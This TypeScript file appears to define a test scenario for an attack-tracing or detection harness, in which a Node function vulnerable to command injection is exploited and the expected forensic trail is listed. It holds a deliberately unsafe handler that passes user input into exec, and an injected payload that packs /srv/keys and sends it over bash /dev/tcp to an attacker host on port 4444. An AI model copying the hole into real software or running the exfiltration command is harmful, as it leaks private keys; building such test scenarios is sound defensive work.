/**
 * A function in Node looks up a parcel by a command; who asks names the parcel, and more. What is stolen is put into a
 * file first, and sent by a second program, as scripts do.
 */
import type { Scenario } from '../scenario.ts';
import { functionSteps, gateway, gatewayHost, nodeFunction } from '../service/functions.ts';
import { attacker, client } from '../stage.ts';

const place = `${attacker}:4444`;
const address = '10.77.0.41';
const path = '/function/parcel';
const parcels = ['A1', 'B2', 'C3', 'D4', 'E5'];
const handler = `const { exec } = require('node:child_process');
exports.handle = (body, done) => {
  const { parcel } = JSON.parse(body);
  console.log('looking for %s', parcel);
  exec('grep -h ' + parcel + ' /srv/parcels/*', (error, found) => done(error, found));
};
`;
const theft = `tar -cf /tmp/.cache /srv/keys; bash -c 'cat /tmp/.cache >/dev/tcp/${attacker}/4444'`;

export const nodeInjection: Scenario = {
  name: 'node-injection',
  title:
    'a parcel that a Node function is asked for is run by its shell, which packs keys and sends them away',
  packages: ['nginx'],
  hosts: [
    nodeFunction('parcel', address, handler, {
      'srv/keys/private.key': 'the key of this function\n',
      ...Object.fromEntries(parcels.map((name) => [`srv/parcels/${name}`, `${name} is on its way\n`])),
    }),
    gatewayHost({ parcel: address }),
  ],
  load: {
    visits: parcels.map((parcel) => ({
      weight: 1,
      requests: [
        { to: [gateway, 80], method: 'POST', path, body: JSON.stringify({ parcel }), status: [200] },
      ],
    })),
    chores: [
      { host: 'parcel', command: ['/bin/sh', '-c', 'ls -l /srv/keys /tmp; cat /srv/parcels/* | wc -l'] },
    ],
  },
  async attack(stage) {
    await stage.outside.listen(attacker, 4444);
    const body = JSON.stringify({ parcel: `A1 /srv/parcels/A1; ${theft}; echo` });
    const asked = await stage.outside.browser(client).ask(gateway, 80, { method: 'POST', path, body });
    const [loot] = await stage.outside.received(attacker, 4444);
    if (!loot?.text.includes('the key of this function')) throw new Error('nothing was stolen');
    return {
      symptom: place,
      also: ['/tmp/.cache', 'looking for A1 /srv/parcels/A1; tar'],
      rootCause: { kind: 'connection', from: asked.client, to: `${gateway}:80` },
      steps: [
        ...functionSteps('parcel', asked),
        {
          what: 'its shell',
          at: { kind: 'process', container: 'parcel', words: 'sh -c grep -h A1 /srv/parcels/A1; tar' },
        },
        {
          what: 'the keys are packed',
          at: { kind: 'process', container: 'parcel', words: 'tar -cf /tmp/.cache' },
        },
        { what: 'the key', at: { kind: 'file', path: '/srv/keys/private.key' } },
        { what: 'the pack', at: { kind: 'file', path: '/tmp/.cache' } },
        {
          what: 'a second shell',
          at: { kind: 'process', container: 'parcel', words: 'bash -c cat /tmp/.cache' },
        },
        { what: 'it reads the pack', at: { kind: 'process', container: 'parcel', words: 'cat /tmp/.cache' } },
        { what: 'the loot is sent away', at: { kind: 'connection', from: address, to: place } },
      ],
    };
  },
};
